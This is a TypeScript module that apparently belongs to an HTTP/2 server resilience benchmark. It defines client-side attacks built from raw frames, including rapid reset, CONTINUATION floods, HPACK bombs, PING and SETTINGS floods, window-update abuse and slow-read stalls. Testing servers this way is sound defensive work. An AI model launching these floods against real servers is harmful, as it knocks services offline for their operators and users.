/** Attacks of an HTTP/2 client. */
import type { Socket } from 'node:net'
import { type Attack, everyMs, flood, floodInPieces, type Origin, reading } from './attack-kinds.ts'
import {
  block,
  data,
  frame,
  GET,
  get,
  goaway,
  headers,
  hello,
  many,
  odd,
  padded,
  ping,
  post,
  rstStream,
  settings,
  settingsAck,
  unfinished,
  windowUpdate,
} from './frames.ts'

const INITIAL_WINDOW = 4

function h2(name: string, run: (socket: Socket) => void, port: Origin = 'h2'): Attack {
  return {
    name: `h2 ${name}`,
    side: 'client',
    port,
    run: reading((socket) => {
      socket.write(hello())
      run(socket)
    }),
  }
}

const pings = many(200, () => ping())
const PING_ACK = frame(6, 1, 0, Buffer.alloc(8))
const PSEUDO = block(GET)
const largeHead = (id: number): Buffer => {
  const value = 'v'.repeat(8_000)
  const fields = Array.from({ length: 12 }, () => ['x-large', value] as const)
  const bytes = block([[':method', 'GET'], [':scheme', 'http'], [':path', '/'], [':authority', 'bench'], ...fields])
  const pieces = [frame(1, 1, id, bytes.subarray(0, 16_000))]
  for (let at = 16_000; at < bytes.length; at += 16_000)
    pieces.push(frame(9, at + 16_000 >= bytes.length ? 4 : 0, id, bytes.subarray(at, at + 16_000)))
  return Buffer.concat(pieces)
}
/** A block that fills the table with one field of 4 KB and then names it 12,000 times. */
const bomb = (id: number): Buffer => {
  const value = Buffer.alloc(3_900, 'b')
  const insert = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]), value])
  return frame(1, 5, id, Buffer.concat([PSEUDO, insert, Buffer.alloc(12_000, 0xbe)]))
}
/** A block of small fields, each put into the table. */
const churn = (id: number): Buffer => {
  const fields = many(200, (n) => Buffer.from([0x40, 2, 0x78, 97 + (n % 26), 2, 65 + (n % 26), 65 + (id % 26)]))
  return frame(1, 5, id, Buffer.concat([PSEUDO, fields]))
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  h2('PING', (socket) => flood(socket, () => pings)),
  h2('1,000 PING per second', (socket) => everyMs(socket, 10, () => pings.subarray(0, 170))),
  h2('SETTINGS', (socket) => flood(socket, () => many(200, () => settings()))),
  h2('SETTINGS that change the windows of 1,000 streams', (socket) => {
    socket.write(many(1_000, (n) => post(odd(n))))
    const change = settings(Array.from({ length: 32 }, (_, n) => [INITIAL_WINDOW, 65_535 + (n % 2)] as const))
    flood(socket, () => change)
  }),
  h2('empty DATA', (socket) => {
    socket.write(post(1))
    flood(socket, () => many(500, () => data(1, 0)))
  }),
  h2('PRIORITY', (socket) => flood(socket, () => many(500, (n) => frame(2, 0, odd(n), Buffer.alloc(5, 1))))),
  h2('frames of an unknown type', (socket) => flood(socket, () => many(500, () => frame(0xbb, 0, 0)))),
  h2('acknowledgements', (socket) => flood(socket, () => many(300, () => Buffer.concat([settingsAck, PING_ACK])))),
  h2('GOAWAY', (socket) => flood(socket, () => many(300, () => goaway(0, 0)))),
  h2('RST_STREAM of a stream that is gone', (socket) => {
    socket.write(Buffer.concat([get(1), rstStream(1, 8)]))
    flood(socket, () => many(500, () => rstStream(1, 8)))
  }),
  h2('a SETTINGS frame of 2,000 parameters', (socket) =>
    socket.write(settings(Array.from({ length: 2_000 }, () => [INITIAL_WINDOW, 65_535] as const))),
  ),
  h2('a frame of 16 MB', (socket) => socket.write(Buffer.from('ffffff000100000001', 'hex'))),
  h2('DATA of padding alone', (socket) => {
    socket.write(post(1))
    flood(socket, () => many(50, () => padded(1, 0, 255)))
  }),
  h2('CONTINUATION', (socket) => {
    socket.write(unfinished(1))
    flood(socket, () => many(500, () => frame(9, 0, 1)))
  }),
  h2('a field block that never ends, slowly', (socket) => {
    socket.write(unfinished(1))
    everyMs(socket, 1_000, () => frame(9, 0, 1))
  }),
  h2('rapid reset', (socket) =>
    flood(socket, (round) =>
      many(100, (n) => Buffer.concat([get(odd(round * 100 + n)), rstStream(odd(round * 100 + n), 8)])),
    ),
  ),
  h2('resets provoked by WINDOW_UPDATE of 0', (socket) =>
    flood(socket, (round) =>
      many(100, (n) => Buffer.concat([post(odd(round * 100 + n)), windowUpdate(odd(round * 100 + n), 0)])),
    ),
  ),
  h2('resets provoked by a window beyond 2^31-1', (socket) =>
    flood(socket, (round) =>
      many(100, (n) => Buffer.concat([post(odd(round * 100 + n)), windowUpdate(odd(round * 100 + n), 0x7fff_ffff)])),
    ),
  ),
  h2('resets provoked by content behind the end', (socket) =>
    flood(socket, (round) =>
      many(100, (n) => Buffer.concat([get(odd(round * 100 + n)), data(odd(round * 100 + n), 1)])),
    ),
  ),
  h2('resets provoked by PRIORITY of four bytes', (socket) =>
    flood(socket, (round) =>
      many(100, (n) => Buffer.concat([post(odd(round * 100 + n)), frame(2, 0, odd(round * 100 + n), Buffer.alloc(4))])),
    ),
  ),
  h2('heads of 1,000 fields without name and value', (socket) =>
    flood(socket, (round) => frame(1, 5, odd(round), Buffer.concat([PSEUDO, Buffer.alloc(3_000)]))),
  ),
  h2('heads of 8,000 table size updates', (socket) =>
    flood(socket, (round) => frame(1, 5, odd(round), Buffer.concat([Buffer.alloc(8_000, 0x20), PSEUDO]))),
  ),
  h2('malformed heads', (socket) =>
    flood(socket, (round) => many(100, (n) => headers(odd(round * 100 + n), [[':method', 'GET']]))),
  ),
  h2('heads of 96 KB', (socket) => flood(socket, (round) => largeHead(odd(round)))),
  h2('HPACK bombs', (socket) => flood(socket, (round) => bomb(odd(round)))),
  h2('HPACK table churn', (socket) =>
    flood(socket, (round) => Buffer.concat([churn(odd(round)), rstStream(odd(round), 8)])),
  ),
  h2('WINDOW_UPDATE of one byte', (socket) => {
    socket.write(post(1))
    flood(socket, () => many(500, () => windowUpdate(1, 1)))
  }),
  h2('a window beyond 2^31-1', (socket) => socket.write(many(3, () => windowUpdate(0, 0x7fff_ffff)))),
  h2('frames byte by byte', (socket) => {
    const bytes = ping()
    floodInPieces(socket, (round) => bytes.subarray(round % bytes.length, (round % bytes.length) + 1))
  }),
  h2('content of one byte per frame', (socket) => {
    socket.write(post(1))
    flood(socket, () => many(500, () => data(1, 1)))
  }),
  h2('half a frame', (socket) => socket.write(ping().subarray(0, 12))),
  h2('5,000 streams that never end', (socket) => socket.write(many(5_000, (n) => post(odd(n))))),
  h2('requests without reading', (socket) => {
    socket.pause()
    flood(socket, (round) => many(100, (n) => get(odd(round * 100 + n))))
  }),
  h2(
    '100 responses of 1 MB in open windows without reading',
    (socket) => {
      socket.pause()
      socket.write(settings([[INITIAL_WINDOW, 0x7fff_ffff]]))
      socket.write(windowUpdate(0, 0x7fff_ffff - 65_535))
      socket.write(many(100, (n) => get(odd(n))))
    },
    'h2Bulk',
  ),
  h2('PING without reading', (socket) => {
    socket.pause()
    flood(socket, () => pings)
  }),
  h2(
    'a window of zero before 1,000 responses of 1 MB',
    (socket) => {
      socket.write(settings([[INITIAL_WINDOW, 0]]))
      socket.write(many(1_000, (n) => get(odd(n))))
    },
    'h2Bulk',
  ),
  h2(
    'a reader of one byte at a time',
    (socket) => {
      socket.write(settings([[INITIAL_WINDOW, 0]]))
      socket.write(get(1))
      floodInPieces(socket, () => windowUpdate(1, 1))
    },
    'h2Bulk',
  ),
  {
    name: 'h2 half a preface',
    side: 'client',
    port: 'h2',
    run: reading((socket) => socket.write('PRI * HTTP/2.0\r\n')),
  },
]
